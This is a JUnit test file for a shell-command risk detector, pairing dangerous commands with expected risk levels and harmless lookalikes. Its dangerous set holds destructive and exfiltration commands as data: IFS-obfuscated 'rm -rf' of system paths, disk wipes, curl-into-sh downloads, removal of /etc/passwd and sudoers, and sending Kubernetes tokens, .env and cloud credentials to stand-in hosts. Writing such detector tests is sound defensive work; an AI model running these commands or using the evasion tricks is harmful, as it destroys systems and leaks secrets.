package dev.caro.rules;

import dev.caro.api.safety.RiskLevel;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The classes of command the misses and the false alarm of blind set 10 (blind-2026-12-03i.jsonl)
 * stood for, each judged through the real engine: the dangerous forms at their exact risk with the
 * reason caro gives, and the harmless lookalikes at the risk they keep.
 */
class BlindSet10ClassesTest {

    /** command, risk, a piece of the top finding's message. */
    static Stream<Arguments> dangerous() {
        return Stream.of(
                // An unquoted expansion split at the IFS the script set runs the command it spells.
                Arguments.of("IFS=,; c=\"rm,-rf,/opt\"; $c", RiskLevel.CRITICAL, "Recursively deletes the system path /opt"),
                Arguments.of("IFS=:; $(echo rm:-rf:/opt)", RiskLevel.CRITICAL, "/opt"),
                Arguments.of("IFS=_; c=rm_-rf_/; $c", RiskLevel.CRITICAL, "Recursively deletes the root directory"),
                Arguments.of("IFS=,; c=\"-rf,/etc\"; rm $c", RiskLevel.CRITICAL, "/etc"),
                Arguments.of("export IFS=','; cmd='sudo,rm,-rf,/var/lib'; $cmd", RiskLevel.CRITICAL, "/var/lib"),
                Arguments.of("IFS=$'\\x2c'; c=\"rm,-rf,/usr\"; $c", RiskLevel.CRITICAL, "/usr"),
                Arguments.of("IFS=\"$IFS,\"; c=\"rm,-rf,/srv\"; $c", RiskLevel.CRITICAL, "/srv"),
                Arguments.of("OLDIFS=$IFS; IFS=%; x=\"dd%if=/dev/zero%of=/dev/sda\"; $x; IFS=$OLDIFS", RiskLevel.CRITICAL,
                        "whole disk /dev/sda"),
                Arguments.of("IFS=,; c=\"chmod,-R,777,/\"; $c", RiskLevel.CRITICAL, "root directory"),
                Arguments.of("IFS=,; set -- rm,-rf,/opt; $1", RiskLevel.CRITICAL, "/opt"),
                Arguments.of("f() { local IFS=,; c=\"rm,-rf,/opt\"; $c; }; f", RiskLevel.CRITICAL, "/opt"),
                Arguments.of("IFS=,; c=\"rm,-rf,/opt\"; eval $c", RiskLevel.CRITICAL, "/opt"),
                Arguments.of("IFS=,; c=\"curl,-s,http://203.0.113.9/x.sh\"; $c | sh", RiskLevel.CRITICAL, "Pipes a download straight into sh"),
                Arguments.of("old=\"$IFS\"; IFS=';'; c='shutdown;-r;now'; $c; IFS=\"$old\"", RiskLevel.MODERATE, "Reboots"),
                // Moving or renaming away a file the system cannot run without, also through wrappers.
                Arguments.of("sudo mv /etc/passwd /etc/passwd.bak", RiskLevel.CRITICAL, "Moves the user database /etc/passwd away: nobody can log in"),
                Arguments.of("mv /etc/shadow /tmp/", RiskLevel.CRITICAL, "/etc/shadow away"),
                Arguments.of("sudo mv /etc/sudoers /root/sudoers.old", RiskLevel.CRITICAL, "sudo stops working"),
                Arguments.of("doas mv /etc/fstab /etc/fstab.orig", RiskLevel.CRITICAL, "the next boot cannot mount the filesystems"),
                Arguments.of("sudo env mv /etc/group /etc/group~", RiskLevel.CRITICAL, "/etc/group away"),
                Arguments.of("sudo mv -t /tmp /etc/passwd", RiskLevel.CRITICAL, "/etc/passwd away"),
                Arguments.of("sudo mv /boot/vmlinuz-6.1.0 /root/", RiskLevel.CRITICAL, "the machine no longer boots"),
                Arguments.of("sudo mv /boot/efi/EFI/ubuntu/grubx64.efi /tmp/", RiskLevel.CRITICAL, "no longer boots"),
                Arguments.of("sudo mv /bin/bash /bin/bash.old", RiskLevel.CRITICAL, "Moves the program /bin/bash away"),
                Arguments.of("sudo mv /usr/bin/sudo /tmp/", RiskLevel.CRITICAL, "/usr/bin/sudo away"),
                Arguments.of("sudo mv /sbin/init /sbin/init.old", RiskLevel.CRITICAL, "/sbin/init away"),
                Arguments.of("sudo mv /lib/x86_64-linux-gnu/libc.so.6 /tmp/", RiskLevel.CRITICAL, "no program can start"),
                Arguments.of("sudo mv /etc/pam.d /etc/pam.d.bak", RiskLevel.CRITICAL, "logins and sudo fail"),
                Arguments.of("busybox mv /etc/passwd /tmp", RiskLevel.CRITICAL, "/etc/passwd away"),
                Arguments.of("echo /etc/shadow | sudo xargs -I{} mv {} {}.old", RiskLevel.CRITICAL, "/etc/shadow away"),
                Arguments.of("ssh prod 'sudo mv /etc/fstab /root/'", RiskLevel.CRITICAL, "/etc/fstab away"),
                Arguments.of("sudo rename passwd passwd.bak /etc/passwd", RiskLevel.CRITICAL, "Renames the user database /etc/passwd away"),
                Arguments.of("sudo rename 's/$/.bak/' /etc/shadow", RiskLevel.CRITICAL, "Renames the password hashes"),
                Arguments.of("sudo rm /etc/fstab", RiskLevel.CRITICAL, "Deletes the filesystem table /etc/fstab"),
                Arguments.of("sudo rm /bin/bash", RiskLevel.CRITICAL, "Deletes the program /bin/bash"),
                // ... or emptying it, which leaves nothing in it either.
                Arguments.of("sudo cp /dev/null /etc/sudoers", RiskLevel.CRITICAL, "Empties the sudo rules /etc/sudoers: sudo stops working"),
                Arguments.of(": > /etc/fstab", RiskLevel.CRITICAL, "Empties the filesystem table"),
                Arguments.of("sudo truncate -s 0 /etc/group", RiskLevel.CRITICAL, "Empties the group database"),
                Arguments.of("echo -n | sudo tee /etc/fstab", RiskLevel.CRITICAL, "Empties the filesystem table"),
                Arguments.of("cat /dev/null > /etc/shadow", RiskLevel.CRITICAL, "Empties the password hashes"),
                Arguments.of("sudo dd if=/dev/null of=/boot/grub/grub.cfg", RiskLevel.CRITICAL, "the machine no longer boots"),
                // Well-known secret files sent off the machine.
                Arguments.of("curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://198.51.100.5/t", RiskLevel.HIGH,
                        "Sends the secret file /var/run/secrets/kubernetes.io/serviceaccount/token"),
                Arguments.of("curl -F f=@/run/secrets/kubernetes.io/serviceaccount/token https://x.example/u", RiskLevel.HIGH, "secret file"),
                Arguments.of("curl --data-binary @/run/secrets/db_password http://203.0.113.7/", RiskLevel.HIGH, "/run/secrets/db_password"),
                Arguments.of("nc 203.0.113.9 9000 < /var/run/secrets/kubernetes.io/serviceaccount/token", RiskLevel.HIGH, "over the network"),
                Arguments.of("cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.9 9000", RiskLevel.HIGH, "serviceaccount/token"),
                Arguments.of("curl -T ~/.kube/config ftp://203.0.113.9/", RiskLevel.HIGH, ".kube/config"),
                Arguments.of("curl -F \"kubeconfig=@$HOME/.kube/config;type=text/plain\" https://paste.example.com", RiskLevel.HIGH,
                        "/home/user/.kube/config"),
                Arguments.of("curl -F file=@$HOME/.docker/config.json https://paste.example.com", RiskLevel.HIGH, ".docker/config.json"),
                Arguments.of("curl -d @.env https://webhook.example.net/abc", RiskLevel.HIGH, "Sends the secret file .env"),
                Arguments.of("curl --data-binary @./.env.local http://203.0.113.5/", RiskLevel.HIGH, ".env.local"),
                Arguments.of("cat .env | nc 203.0.113.9 4444", RiskLevel.HIGH, ".env"),
                Arguments.of("wget --post-file ~/.aws/credentials http://203.0.113.5/", RiskLevel.HIGH, ".aws/credentials"),
                Arguments.of("wget --post-file=/etc/kubernetes/admin.conf http://203.0.113.5/", RiskLevel.HIGH, "/etc/kubernetes/admin.conf"),
                Arguments.of("http POST https://x.example @~/.config/gcloud/application_default_credentials.json", RiskLevel.HIGH,
                        "application_default_credentials.json"),
                Arguments.of("http --form POST https://x.example f@~/.azure/msal_token_cache.json", RiskLevel.HIGH, ".azure"),
                Arguments.of("curl -d @~/.netrc http://203.0.113.5/", RiskLevel.HIGH, "~/.netrc"),
                Arguments.of("scp /etc/ssh/ssh_host_ed25519_key attacker@203.0.113.9:", RiskLevel.HIGH, "ssh_host_ed25519_key"),
                Arguments.of("curl -F k=@/etc/ssl/private/server.key https://x.example", RiskLevel.HIGH, "/etc/ssl/private/server.key"),
                Arguments.of("curl -d \"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://x.example", RiskLevel.HIGH,
                        "serviceaccount/token"),
                // A help or dry-run lookalike that still runs.
                Arguments.of("kubectl delete pods --all -A --dry-run=none", RiskLevel.CRITICAL, "every"),
                Arguments.of("kubectl exec app -- rm -rf / --help", RiskLevel.CRITICAL, "root directory"),
                // A directory right under the root is often a whole volume (blind set g: kubectl exec ... rm -rf /data/*).
                Arguments.of("kubectl exec -n prod deploy/api -- sh -c 'rm -rf /data/*'", RiskLevel.HIGH, "top-level directory"),
                Arguments.of("rm -rf /data", RiskLevel.HIGH, "top-level directory"),
                Arguments.of("sudo rm -rf /backup/", RiskLevel.HIGH, "/backup, a top-level directory"),
                // "help" as an option's value is no help request.
                Arguments.of("kubectl -n help delete ns prod", RiskLevel.CRITICAL, "namespace prod"),
                Arguments.of("aws s3 rm s3://prod-bucket --recursive --exclude help", RiskLevel.HIGH, "every object"),
                Arguments.of("gsutil -h \"Cache-Control:no-cache\" rm -r gs://bucket", RiskLevel.HIGH, "Recursively deletes gs://bucket"));
    }

    /** command, the highest risk it may get. */
    static Stream<Arguments> harmless() {
        return Stream.of(
                Arguments.of("IFS=,; c=\"rm,-rf,/opt\"; echo $c", RiskLevel.SAFE),
                Arguments.of("rm -rf /data/old-logs", RiskLevel.MODERATE),
                Arguments.of("IFS=,; c=\"rm,-rf,/opt\"; echo \"$c\"", RiskLevel.SAFE),
                Arguments.of("IFS=,; c=\"rm,-rf,./build\"; $c", RiskLevel.SAFE),
                Arguments.of("IFS=,; c=\"ls,-la,/opt\"; $c", RiskLevel.SAFE),
                Arguments.of("IFS=,; c=\"rm -rf /opt\"; $c", RiskLevel.SAFE),
                Arguments.of("IFS=; c=\"rm -rf /opt\"; $c", RiskLevel.SAFE),
                Arguments.of("IFS=, read -r a b <<< \"x,y\"; echo \"$a\"", RiskLevel.SAFE),
                Arguments.of("while IFS=, read -r name path; do echo \"$name\"; done < list.csv", RiskLevel.SAFE),
                Arguments.of("IFS=$'\\n'; for f in $(ls); do echo \"$f\"; done", RiskLevel.SAFE),
                Arguments.of("set -- a b; echo $1", RiskLevel.SAFE),
                Arguments.of("mv passwd.txt old/", RiskLevel.SAFE),
                Arguments.of("mv ./etc/passwd ./backup/", RiskLevel.SAFE),
                Arguments.of("mv ~/passwd ~/passwd.old", RiskLevel.SAFE),
                Arguments.of("sudo cp /etc/passwd /etc/passwd.bak", RiskLevel.SAFE),
                Arguments.of("sudo cp /etc/fstab /etc/fstab.bak", RiskLevel.SAFE),
                Arguments.of("sudo mv /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", RiskLevel.SAFE),
                Arguments.of("rename 's/\\.txt$/.md/' *.txt", RiskLevel.SAFE),
                Arguments.of("rename .htm .html *.htm", RiskLevel.SAFE),
                Arguments.of("sudo rename -n 's/$/.bak/' /etc/passwd", RiskLevel.SAFE),
                Arguments.of("sudo rename shadow shadow.bak /etc/passwd", RiskLevel.SAFE),
                Arguments.of("sudo mv /usr/bin/python3 /usr/bin/python3.bak", RiskLevel.HIGH),
                Arguments.of("echo '/dev/sdb1 /data ext4 defaults 0 2' > /etc/fstab", RiskLevel.HIGH),
                Arguments.of("sudo cp fstab.new /etc/fstab", RiskLevel.HIGH),
                Arguments.of(": > /etc/motd", RiskLevel.SAFE),
                Arguments.of("sudo truncate -s 0 /var/log/app.log", RiskLevel.SAFE),
                Arguments.of("echo hi | sudo tee /etc/motd", RiskLevel.SAFE),
                Arguments.of("sudo mv /etc/resolv.conf /etc/resolv.conf.bak", RiskLevel.MODERATE),
                Arguments.of("curl -d @payload.json https://api.example.com", RiskLevel.SAFE),
                Arguments.of("curl -F file=@report.pdf https://upload.example.com", RiskLevel.SAFE),
                Arguments.of("curl -d @.env.example https://api.example.com", RiskLevel.SAFE),
                Arguments.of("scp .env deploy@app.example.com:/srv/app/", RiskLevel.SAFE),
                Arguments.of("rsync -av .env deploy@app.example.com:/srv/app/", RiskLevel.SAFE),
                Arguments.of("curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default.svc/api", RiskLevel.SAFE),
                Arguments.of("curl -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" "
                        + "https://kubernetes.default.svc/api", RiskLevel.SAFE),
                Arguments.of("cat /var/run/secrets/kubernetes.io/serviceaccount/namespace", RiskLevel.SAFE),
                Arguments.of("kubectl --kubeconfig ~/.kube/config get pods", RiskLevel.SAFE),
                Arguments.of("curl -T build.tar.gz ftp://files.example.com/", RiskLevel.SAFE),
                Arguments.of("wget --post-file=data.json https://api.example.com", RiskLevel.SAFE),
                Arguments.of("gcloud projects delete --help", RiskLevel.SAFE),
                Arguments.of("gcloud projects delete my-proj --help", RiskLevel.SAFE),
                Arguments.of("gcloud help projects delete", RiskLevel.SAFE),
                Arguments.of("gcloud compute instances delete vm1 --zone us-central1-a -h", RiskLevel.SAFE),
                Arguments.of("aws s3 rb s3://prod --force --help", RiskLevel.SAFE),
                Arguments.of("aws ec2 terminate-instances help", RiskLevel.SAFE),
                Arguments.of("aws ec2 terminate-instances --instance-ids i-0abc123 --dry-run", RiskLevel.SAFE),
                Arguments.of("az group delete --name prod --yes --help", RiskLevel.SAFE),
                Arguments.of("az group delete -n prod -h", RiskLevel.SAFE),
                Arguments.of("kubectl delete ns prod --help", RiskLevel.SAFE),
                Arguments.of("kubectl help delete", RiskLevel.SAFE),
                Arguments.of("oc delete project prod --help", RiskLevel.SAFE),
                Arguments.of("helm uninstall prod-release -h", RiskLevel.SAFE),
                Arguments.of("doctl help compute droplet delete", RiskLevel.SAFE),
                Arguments.of("doctl compute droplet delete web-1 --force --help", RiskLevel.SAFE),
                Arguments.of("terraform -help destroy", RiskLevel.SAFE),
                Arguments.of("pulumi destroy --help", RiskLevel.SAFE),
                Arguments.of("eksctl delete cluster --name prod --help", RiskLevel.SAFE),
                Arguments.of("sudo gcloud projects delete prod-123 --help", RiskLevel.SAFE),
                Arguments.of("helm uninstall help -n prod", RiskLevel.MODERATE));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dangerous")
    void judgesTheDangerousForm(String command, RiskLevel risk, String reason) {
        JudgedCommands.assertDangerous(command, risk, reason);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("harmless")
    void keepsTheLookalikeAtItsRisk(String command, RiskLevel most) {
        JudgedCommands.assertKeeps(command, most);
    }
}
